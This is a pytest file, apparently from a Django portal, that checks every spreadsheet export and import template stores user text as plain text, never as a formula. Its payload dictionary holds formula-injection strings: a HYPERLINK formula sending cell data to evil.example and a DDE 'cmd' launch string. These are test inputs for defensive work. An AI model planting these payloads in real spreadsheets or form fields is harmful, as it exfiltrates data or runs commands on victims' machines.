"""Every .xlsx the portal writes keeps user text as text (issue 16, item 2).

The routes that hand out a workbook are found by walking the URL conf (the lists'
``?export=xlsx``, the dashboards' ``?export=xlsx``, the imports' ``?template=xlsx``); the names
of commune A's records are set to text a spreadsheet would take for a formula (=, +, -, @, a tab
or a carriage return first), and each file is read back with openpyxl: no cell is a formula and
the text is exactly what was typed (a carriage return is Excel's line end in a cell, LF).
"""

from __future__ import annotations

import ast
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from areas.base.views import ScopedListView, SpreadsheetImportMixin
from areas.base.xlsx import Sheet, workbook
from reports.dashboards.views import DashboardView
from reports.reviews.views import VersionXlsxView
from tests.conftest import login
from tests.test_routes import route_url
from tests.test_scope_denial import all_routes

ROOT = Path(__file__).resolve().parent.parent
APPS = ["areas", "accounts", "models_registry", "patrols", "awards", "reports", "config"]

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào")'
# What each record of commune A is renamed to: every way a spreadsheet starts a formula.
PAYLOADS = {
    "commune": HYPERLINK,
    "village": "+cmd|' /C calc'!A0",
    "model": '=HYPERLINK("http://evil.example/","Tổ tuần tra")',
    "network": "\r=1+1 Mắt camera",
    "person": "-2+3 Trần Văn An",
    "phone": "@SUM(1+1)",
    "place": "\t=1+2 Chợ",
    "incident": "=CMD()|mô tả",
    "reason": "=1+1 Đề nghị khen",
    "award_reason": "@A1 thành tích",
    "report": "=2+2 Sơ kết",
}


def as_read(text: str) -> str:
    """The text as a spreadsheet reader may give it back: a carriage return written as a bare
    character is a line end (LF) once the XML is read (openpyxl's own serialiser); written as
    ``&#13;`` (with lxml installed) it comes back as it was. Both are the text as typed."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def same_text(read: str, typed: str) -> bool:
    return read in (typed, as_read(typed))


EXPECTED = {as_read(v) for v in PAYLOADS.values()} | set(PAYLOADS.values())
PERIOD = "preset=year&year=2025"  # the year of commune A's shift and incident
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def risky_names(own_objects):
    """Commune A's records, renamed to formula-looking text (saved as typed)."""
    own = own_objects

    def rename(obj, **fields):
        for name, value in fields.items():
            setattr(obj, name, value)
        obj.save()

    rename(own["commune"], name=PAYLOADS["commune"])
    rename(own["areas.Area"], name=PAYLOADS["village"])
    rename(own["models_registry.GrassrootsModel"], name=PAYLOADS["model"])
    rename(own["network"], name=PAYLOADS["network"])
    rename(own["models_registry.Person"], full_name=PAYLOADS["person"], phone=PAYLOADS["phone"])
    rename(own["models_registry.Camera"], place=PAYLOADS["place"])
    type(own["patrols.Incident"]).objects.filter(pk=own["patrols.Incident"].pk).update(
        description=PAYLOADS["incident"]
    )
    type(own["awards.Award"]).objects.filter(pk=own["awards.Award"].pk).update(
        reason=PAYLOADS["award_reason"]
    )
    type(own["awards.Proposal"]).objects.filter(pk=own["awards.Proposal"].pk).update(
        reason=PAYLOADS["reason"]
    )
    type(own["reports.ReviewReport"]).objects.filter(pk=own["reports.ReviewReport"].pk).update(
        title=PAYLOADS["report"]
    )
    # A notification's title quotes the report's, as typed (the administrator's own).
    type(own["accounts.Notification"]).objects.filter(pk=own["accounts.Notification"].pk).update(
        title=f"PDF của báo cáo “{PAYLOADS['report']}” (phiên bản 1) đã tạo xong."
    )
    return own


def _view_class(route):
    return getattr(route.callback, "view_class", None)


def export_routes():
    """``(route, query)`` for every route that answers with a workbook."""
    found = []
    for route in all_routes():
        view = _view_class(route)
        if view is None:
            continue
        if issubclass(view, ScopedListView | DashboardView):
            found.append((route, "export=xlsx"))
        elif issubclass(view, SpreadsheetImportMixin):
            found.append((route, "template=xlsx"))
        elif issubclass(view, VersionXlsxView):
            found.append((route, "tables"))  # a version's tables (a query it ignores)
    return found


EXPORTS = export_routes()


def test_the_walk_finds_every_kind_of_export():
    names = {route.name for route, _query in EXPORTS}
    assert {
        "home",
        "reports:unit_dashboard",
        "reports:model_dashboard",
        "registry:model_list",
        "registry:person_list",
        "registry:camera_list",
        "patrols:shift_list",
        "patrols:incident_list",
        "awards:award_list",
        "awards:proposal_list",
        "reports:report_list",
        "registry:member_import",
        "patrols:shift_import",
        "reports:version_xlsx",
    } <= names, names


def _calls(tree, name: str) -> bool:
    return any(
        isinstance(node, ast.Call)
        and (getattr(node.func, "id", None) == name or getattr(node.func, "attr", None) == name)
        for node in ast.walk(tree)
    )


def test_workbooks_are_made_only_by_the_one_writer():
    """openpyxl writes only in areas/base/xlsx.py (the reader opens uploads in sheets.py), and
    a workbook answers only from the views the walk above covers."""
    writers, answering = [], set()
    for app in APPS:
        for path in sorted((ROOT / app).rglob("*.py")):
            relative = str(path.relative_to(ROOT))
            text = path.read_text()
            tree = ast.parse(text)
            if "openpyxl" in text and relative not in {
                "areas/base/xlsx.py",
                "areas/base/sheets.py",
            }:
                writers.append(relative)
            if "spreadsheetml" in text and relative != "areas/base/xlsx.py":
                writers.append(relative)
            writer = relative == "areas/base/xlsx.py"
            if not writer and (_calls(tree, "xlsx_response") or _calls(tree, "workbook")):
                answering.add(relative)
    assert writers == []
    # A new caller is a new kind of export: add its routes to ``export_routes``. (The demo makes
    # the workbooks it then imports, as an officer fills the template: no answer of a route.)
    assert answering - {"patrols/demo.py"} == {
        "areas/base/views.py",
        "reports/dashboards/views.py",
        "reports/reviews/spreadsheet.py",  # a version's tables: reports:version_xlsx
    }


def _cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _check(content: bytes, where: str) -> set[str]:
    """The names found in the file (a cell may hold a name within more words, "Tổ … (Xã …)");
    fails on a formula, or on a name changed on its way (an apostrophe put before it)."""
    found = set()
    for cell in _cells(content):
        assert cell.data_type != "f", f"{where}: {cell.coordinate} is a formula: {cell.value!r}"
        if not isinstance(cell.value, str):
            continue
        names = {name for name in EXPECTED if name in cell.value}
        found |= names
        if cell.value.startswith(STARTS):
            assert names, f"{where}: {cell.coordinate} changed: {cell.value!r}"
        assert not cell.value.startswith("'"), f"{where}: {cell.coordinate}: {cell.value!r}"
    return found


@pytest.mark.parametrize(("route", "query"), EXPORTS, ids=lambda r: getattr(r, "pattern", r))
def test_every_export_keeps_formula_text_as_text(route, query, risky_names, administrator):
    url = route_url(route, risky_names)
    url += ("&" if "?" in url else "?") + query
    if issubclass(_view_class(route), DashboardView):
        url += "&" + PERIOD
    response = login(administrator).get(url)
    assert response.status_code == 200, url
    assert response["Content-Type"].startswith("application/vnd.openxmlformats"), url
    found = _check(response.content, url)
    if query == "export=xlsx" and route.name != "home":
        assert found, f"{url}: none of commune A's names is in the export"


def test_the_province_dashboard_export_names_its_communes_as_typed(risky_names, administrator):
    from django.urls import reverse

    province = risky_names["commune"].parent
    url = reverse("reports:unit_dashboard", args=[province.pk])
    response = login(administrator).get(f"{url}?export=xlsx&{PERIOD}")
    assert HYPERLINK in _check(response.content, url)


def test_the_writer_keeps_text_numbers_and_line_ends():
    content = workbook(
        [
            Sheet(
                "=Trang",
                ["=Tên", "Số"],
                [[v, 3] for v in PAYLOADS.values()] + [["a\r\nb", -2.5], ["'=x", 0]],
            )
        ]
    )
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet.title == "=Trang" and sheet["A1"].value == "=Tên"
    assert sheet["A1"].data_type == "s"
    values = [(row[0].value, row[0].data_type, row[1].value) for row in sheet.iter_rows(min_row=2)]
    typed = list(PAYLOADS.values()) + ["a\r\nb", "'=x"]
    assert [(kind, number) for _text, kind, number in values] == [("s", 3)] * len(PAYLOADS) + [
        ("s", -2.5),
        ("s", 0),
    ]
    assert all(same_text(text, t) for (text, _k, _n), t in zip(values, typed, strict=True))
    assert sheet["B2"].data_type == "n"
